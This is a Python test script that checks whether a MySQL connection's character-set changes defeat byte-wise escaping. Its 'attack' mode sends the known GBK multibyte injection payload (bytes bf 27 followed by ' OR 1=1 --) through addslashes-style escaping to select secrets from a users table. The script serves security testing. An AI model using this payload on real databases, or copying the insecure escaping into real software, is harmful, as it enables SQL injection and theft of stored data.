"""A legacy PyMySQL program that changes the connection's character set in
one of the ways the server knows, then sends a query whose input was
escaped byte-wise (addslashes), or a correctly escaped one.
   python3 mysql_state_paths.py SOCKET attack|legit MARKER STATEMENT…
Each STATEMENT is sent as one query ("multi:" before it: with
CLIENT.MULTI_STATEMENTS, every result read).  attack: the input bf 27 ' OR
1=1 -- (a GBK lead byte and a quote) escaped by addslashes, in a SELECT of
the secrets; legit: a GBK character whose trail byte is 0x5c and a quote,
escaped for GBK, whose bytes the server gives back.  attack-escaped and
legit-escaped: x\' OR 1=1 -- in the SELECT of the secrets, and a\b'c whose
bytes the server gives back, escaped by PyMySQL for the quoting mode the
server's status bits say.  Then: the connection still answers."""
import sys

import pymysql
from pymysql.constants import CLIENT

sock, what, marker = sys.argv[1:4]
statements = sys.argv[4:]
multi = any(s.startswith("multi:") for s in statements)
db = pymysql.connect(unix_socket=sock, user="root", database="qg", charset="utf8mb4",
                     client_flag=CLIENT.MULTI_STATEMENTS if multi else 0)
cur = db.cursor()
try:
    for s in statements:
        cur.execute(s[6:] if s.startswith("multi:") else s)
        while cur.nextset():
            pass
except pymysql.MySQLError as e:
    print("SETUP ERROR:", e.args[0], e.args[1])
if what == "attack":
    raw = bytes.fromhex("bf27204f5220313d31202d2d20")
    esc = raw.replace(b"\\", b"\\\\").replace(b"'", b"\\'")
    sql = b"SELECT /*" + marker.encode() + b"*/ secret FROM users WHERE name = '" + esc + b"'"
elif what == "attack-escaped":
    esc = db.escape_string("x\\' OR 1=1 -- ").encode()
    sql = b"SELECT /*" + marker.encode() + b"*/ secret FROM users WHERE name = '" + esc + b"'"
elif what == "legit-escaped":
    sql = b"SELECT /*" + marker.encode() + b"*/ HEX('" + db.escape_string("a\\b'c").encode() + b"')"
else:
    sql = b"SELECT /*" + marker.encode() + b"*/ HEX('\xbf\x5c\\'x') AS h"
try:
    cur.execute(sql)
    for row in cur.fetchall():
        print("ROW:", row[0])
except pymysql.MySQLError as e:
    print("ERROR:", e.args[0], e.args[1])
cur.execute("SELECT 'alive'")
print("ALIVE:", cur.fetchall()[0][0])
